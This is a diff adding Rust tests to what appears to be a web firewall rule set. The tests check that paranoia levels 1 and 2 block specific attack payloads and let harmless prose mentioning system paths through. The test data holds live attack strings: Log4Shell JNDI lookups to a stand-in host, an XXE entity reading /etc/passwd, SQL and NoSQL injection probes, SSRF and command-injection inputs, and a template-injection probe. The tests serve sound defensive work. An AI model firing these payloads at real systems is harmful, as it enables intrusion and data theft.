@@ -168,6 +168,59 @@ fn blocks_commands_hidden_by_quoting_variables_and_globs() {
 }
 
 #[test]
+fn blocks_a_log4shell_lookup_and_an_xml_external_entity_at_paranoia_1() {
+    for (payload, rule) in [
+        ("${jndi:ldap://evil.example/a}", "932180"),
+        ("${${lower:j}ndi:${::-l}dap://evil.example/a}", "932180"),
+        ("<!ENTITY xxe SYSTEM \"file:///etc/passwd\">", "930140"),
+    ] {
+        let (blocked, matched) = verdict_on_query(1, payload);
+        assert!(blocked && matched.contains(rule), "{payload}: {matched}");
+    }
+}
+
+#[test]
+fn paranoia_2_blocks_probes_that_paranoia_1_lets_through() {
+    for (payload, rule) in [
+        ("@@version", "942240"),
+        (
+            "1 rlike (select (case when (1=1) then 1 else 0x28 end))",
+            "942250",
+        ),
+        ("select * from users where 1=1", "942260"),
+        ("chr(65)||chr(66)", "942270"),
+        ("-1 uni/**/on sel/**/ect 1,2", "942290"),
+        ("1 xor 1", "942296"),
+        ("{\"$ne\":null}", "942380"),
+        ("/etc/nginx/nginx.conf", "930130"),
+        ("c:\\xampp\\apache\\conf\\httpd.conf", "930130"),
+        ("http://2130706433/", "931110"),
+        ("; docker ps", "932107"),
+        ("system('id')", "932170"),
+        ("{{7*7}}", "932190"),
+    ] {
+        assert!(!verdict_on_query(1, payload).0, "{payload} at paranoia 1");
+        let (blocked, matched) = verdict_on_query(2, payload);
+        assert!(blocked && matched.contains(rule), "{payload}: {matched}");
+    }
+}
+
+#[test]
+fn paranoia_2_passes_a_system_path_or_config_file_mentioned_in_a_sentence() {
+    for prose in [
+        "The file is in /var/www/html on the server",
+        "win.ini is a legacy config file",
+        "look at /etc/nginx/nginx.conf for the server block",
+    ] {
+        assert_eq!(
+            verdict_on_query(2, prose),
+            (false, String::new()),
+            "{prose}"
+        );
+    }
+}
+
+#[test]
 fn passes_a_bare_path_or_api_mentioned_in_a_sentence_at_paranoia_1_but_not_at_2() {
     for prose in [
         "add the host to /etc/hosts and restart",
